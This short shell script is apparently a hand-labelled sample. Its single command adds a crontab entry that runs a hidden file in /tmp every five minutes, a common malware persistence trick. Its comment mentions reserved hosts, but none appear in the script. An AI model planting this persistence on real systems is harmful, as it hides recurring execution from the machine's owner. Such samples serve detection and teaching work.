#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.helper") | crontab -
